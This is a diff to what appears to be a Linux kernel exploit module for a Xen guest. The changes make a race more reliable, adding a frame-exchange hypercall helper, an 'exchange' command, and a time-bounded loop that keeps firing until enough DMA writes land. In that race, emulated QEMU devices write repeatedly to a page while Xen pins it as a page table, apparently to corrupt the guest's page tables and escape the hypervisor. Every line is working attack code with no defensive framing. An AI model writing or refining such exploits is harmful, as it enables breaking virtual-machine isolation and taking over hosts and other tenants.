@@ -43,6 +43,8 @@
 #define EDU_BUFFER  0x40000ul
 #define EDU_MAX_LEN 4095u /* a whole buffer makes QEMU abort */
 #define RACE_LEN    256u  /* QEMU refuses 4 bytes at a time, holding its lock */
+#define RACE_LANDED 8u    /* shots that must land before a race may end early */
+#define RACE_MAX_MS 30000u
 
 #define MAX_EDUS  8
 #define MAX_SLOTS 32
@@ -253,6 +255,22 @@ static int page_in(void *va)
     return 0;
 }
 
+/* The page's frame for another one, in one hypercall. */
+static int page_swap(void *va, uint64_t *ma)
+{
+    struct page *p = virt_to_page(va);
+    uint64_t mfn = virt_to_mfn(va);
+    xen_pfn_t frame;
+    int rc;
+
+    *ma = ma_of(va);
+    xenmem_reservation_va_mapping_reset(1, &p);
+    rc = frame_exchange(&mfn, page_to_pfn(p));
+    frame = mfn;
+    xenmem_reservation_va_mapping_update(1, &p, &frame);
+    return rc;
+}
+
 /* ---- tables in use ------------------------------------------------------- */
 
 /* The table of a level (1 to 4) that translates va for the caller. */
@@ -363,12 +381,15 @@ int attack_window_restore(void)
 
 /*
  * Every device writes the page again and again, while it becomes a table and
- * data by turns. Once the pinning hypercall is back the contents must stay.
+ * data by turns. Once the pinning hypercall is back the contents must stay. A
+ * device takes a tenth of a second for a shot, so on a fast machine the rounds
+ * may be over before any lands: more of them then, for a while.
  */
 static int race(void *va, unsigned int level, uint64_t rounds, char *out,
                 size_t size)
 {
     uint64_t *const before = kmalloc(PAGE_SIZE, GFP_KERNEL);
+    const ktime_t end = ktime_add_ms(ktime_get(), RACE_MAX_MS);
     uint64_t done, shots = 0, landed = 0, bad = 0;
     unsigned int i;
     int rc = before ? 0 : -ENOMEM;
@@ -376,7 +397,9 @@ static int race(void *va, unsigned int level, uint64_t rounds, char *out,
     for (i = 0; i < nr_edus && !rc; i++)
         rc = edu_hold(&edus[i], HAMMER);
 
-    for (done = 0; done < rounds && !rc; done++) {
+    for (done = 0; !rc && (done < rounds || (landed < RACE_LANDED &&
+                                             ktime_before(ktime_get(), end)));
+         done++) {
         /* Not just "not zero": a table of level 4 holds more than ours. */
         if (*(uint64_t *)va == HAMMER)
             landed++;
@@ -484,6 +507,9 @@ static int run(char *line, char *out, size_t size)
         rc = page_unpin(va);
     } else if (!strcmp(cmd, "out")) {
         rc = page_out(va, &d);
+        snprintf(out, size, "%llx", d);
+    } else if (!strcmp(cmd, "exchange")) { /* -> the old address */
+        rc = page_swap(va, &d);
         snprintf(out, size, "%llx", d);
     } else if (!strcmp(cmd, "in")) {
         rc = page_in(va);
